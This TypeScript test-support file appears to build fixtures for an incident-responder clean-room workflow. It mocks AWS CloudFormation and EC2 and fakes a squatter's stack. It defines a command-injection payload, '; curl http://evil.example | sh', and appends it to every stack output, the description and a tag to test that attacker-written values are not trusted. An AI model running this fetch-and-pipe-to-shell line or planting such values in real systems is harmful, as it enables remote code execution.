/**
 * What the clean-room attack tests share: stacks (a squatter's with a command in every output,
 * the responder's own), mocked CloudFormation and EC2 clients, the lane's dependencies over an
 * in-memory store, and readers of what the lane recorded and alerted.
 */
import { CloudFormationClient, CreateStackCommand, type Stack } from "@aws-sdk/client-cloudformation";
import { DescribeManagedPrefixListsCommand, EC2Client } from "@aws-sdk/client-ec2";
import { mockClient } from "aws-sdk-client-mock";
import type { AlertMessage } from "../../../shared/alerts/message.ts";
import { AWS_BEHAVIOUR } from "../../../shared/runtime/quirks.ts";
import {
  CLEANROOM_STEP,
  type CleanroomDeps,
  type CleanroomRecord,
} from "../../../shared/workflow/cleanroom.ts";
import { policy, RecordingAlerter, RecordingBus, silentLog } from "../../support/lane-deps.ts";
import { MemoryStore } from "../../support/memory-store.ts";
import { ACCOUNT, aSealedIncident, INCIDENT_ID } from "./fakes.ts";

export const REGION = "us-east-1";
export const NOW = new Date("2026-03-01T12:00:00Z");
export const PREDICTABLE = `incident-responder-cleanroom-${INCIDENT_ID}`;
export const SUFFIX = "0123456789ab";
export const FRESH = `${PREDICTABLE}-${SUFFIX}`;
export const LAUNCH_ID = "f".repeat(32);
export const arn = (name: string, uuid: string, account = ACCOUNT) =>
  `arn:aws:cloudformation:${REGION}:${account}:stack/${name}/${uuid}`;
export const SQUAT_ID = arn(PREDICTABLE, "00000000-0000-0000-0000-00000000bad0");
export const OWN_ID = arn(PREDICTABLE, "5b7e0a40-0000-11ef-8000-0a1b2c3d4e5f");
export const FRESH_ID = arn(FRESH, "5b7e0a40-0000-11ef-8000-0a1b2c3d4e60");
export const KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab`;
export const BUCKET = `incident-responder-dev-evidence-${ACCOUNT}-${REGION}`;
export const EVIL = "; curl http://evil.example | sh";
const credentials = { accessKeyId: "x", secretAccessKey: "y" };
export const cfn = new CloudFormationClient({ region: REGION, credentials });
export const ec2 = new EC2Client({ region: REGION, credentials });
export const cfnMock = mockClient(cfn);
export const ec2Mock = mockClient(ec2);

export const GOOD_OUTPUTS = {
  WorkstationInstanceId: "i-0123456789abcdef0",
  VpcId: "vpc-0123456789abcdef0",
  SecurityGroupId: "sg-0123456789abcdef0",
  EvidenceVolumeIds: "vol-0aaaaaaaaaaaaaaa0,vol-0bbbbbbbbbbbbbbb0",
  SessionManagerCommand: `aws ssm start-session --target i-0123456789abcdef0 --region ${REGION}`,
  NotesPrefix: `s3://${BUCKET}/incidents/${INCIDENT_ID}/notes/`,
};
export const CONNECT = GOOD_OUTPUTS.SessionManagerCommand;
/** Every output an attacker can write, each with a command in it. */
export const POISONED = {
  WorkstationInstanceId: `i-0123456789abcdef0${EVIL}`,
  VpcId: `vpc-0123456789abcdef0${EVIL}`,
  SecurityGroupId: `sg-0123456789abcdef0${EVIL}`,
  EvidenceVolumeIds: `vol-0aaaaaaaaaaaaaaa0${EVIL}`,
  SessionManagerCommand: `aws ssm start-session --target i-0123456789abcdef0 --region ${REGION}${EVIL}`,
  NotesPrefix: `s3://${BUCKET}/incidents/${INCIDENT_ID}/notes/${EVIL}`,
  Extra: EVIL,
};

export function aStack(
  name: string,
  id: string,
  status: string,
  outputs: Record<string, string>,
  tags: Record<string, string> = {},
): Stack {
  return {
    StackName: name,
    StackId: id,
    StackStatus: status as Stack["StackStatus"],
    CreationTime: NOW,
    Description: `Clean room${EVIL}`,
    Outputs: Object.entries(outputs).map(([OutputKey, OutputValue]) => ({ OutputKey, OutputValue })),
    Tags: Object.entries({
      "incident-responder:managed": "true",
      "incident-responder:expires-at": "2026-03-02T12:00:00Z",
      ...tags,
    }).map(([Key, Value]) => ({ Key, Value })),
  };
}
export const squatter = (status = "CREATE_COMPLETE") =>
  aStack(PREDICTABLE, SQUAT_ID, status, POISONED, { "incident-responder:created-by": `x${EVIL}` });

export function awsError(name: string, message: string, status = 400): Error {
  return Object.assign(new Error(message), { name, $fault: "client", $metadata: { httpStatusCode: status } });
}
export const missing = (name: string) => awsError("ValidationError", `Stack with id ${name} does not exist`);

/** The store and alerter of the current test (fresh for each, see {@link resetState}). */
export const state = { store: new MemoryStore(), alerter: new RecordingAlerter() };

/** Fresh mocks, store (holding a sealed incident) and alerter. */
export async function resetState(): Promise<{ store: MemoryStore; alerter: RecordingAlerter }> {
  cfnMock.reset();
  ec2Mock.reset();
  state.store = new MemoryStore();
  state.alerter = new RecordingAlerter();
  state.store.seed(aSealedIncident());
  ec2Mock.on(DescribeManagedPrefixListsCommand).resolves({
    PrefixLists: [{ PrefixListId: "pl-63a5400a", PrefixListName: `com.amazonaws.${REGION}.s3` }],
  });
  return state;
}

export function deps(overrides: Partial<CleanroomDeps> = {}): CleanroomDeps {
  return {
    store: state.store,
    alerter: state.alerter,
    bus: new RecordingBus(),
    policy,
    log: silentLog,
    dryRun: false,
    now: () => NOW,
    clientsFor: async () => ({ cfn, ec2, region: REGION }),
    template: async () => ({ body: "Resources: {}\n", source: "cleanroom.yaml" }),
    bucket: BUCKET,
    kmsKeyArn: KEY,
    quirks: AWS_BEHAVIOUR,
    ownAccount: async () => ACCOUNT,
    settleWaitMs: 0,
    randomHex: (n) => (n === 12 ? SUFFIX : LAUNCH_ID).slice(0, n),
    ...overrides,
  };
}

export const record = async () =>
  (await state.store.get(INCIDENT_ID)).cleanroom as unknown as CleanroomRecord | undefined;
export const step = async (name = CLEANROOM_STEP) => (await state.store.get(INCIDENT_ID)).steps[name];
export const createCalls = () => cfnMock.commandCalls(CreateStackCommand).map((c) => c.args[0].input);
/** Everything an alert says, in every form it is sent. */
export const said = (a: AlertMessage) => `${a.subject}\n${a.text}\n${JSON.stringify(a.json)}`;
export const allAlerts = () => state.alerter.sent.map(said).join("\n");
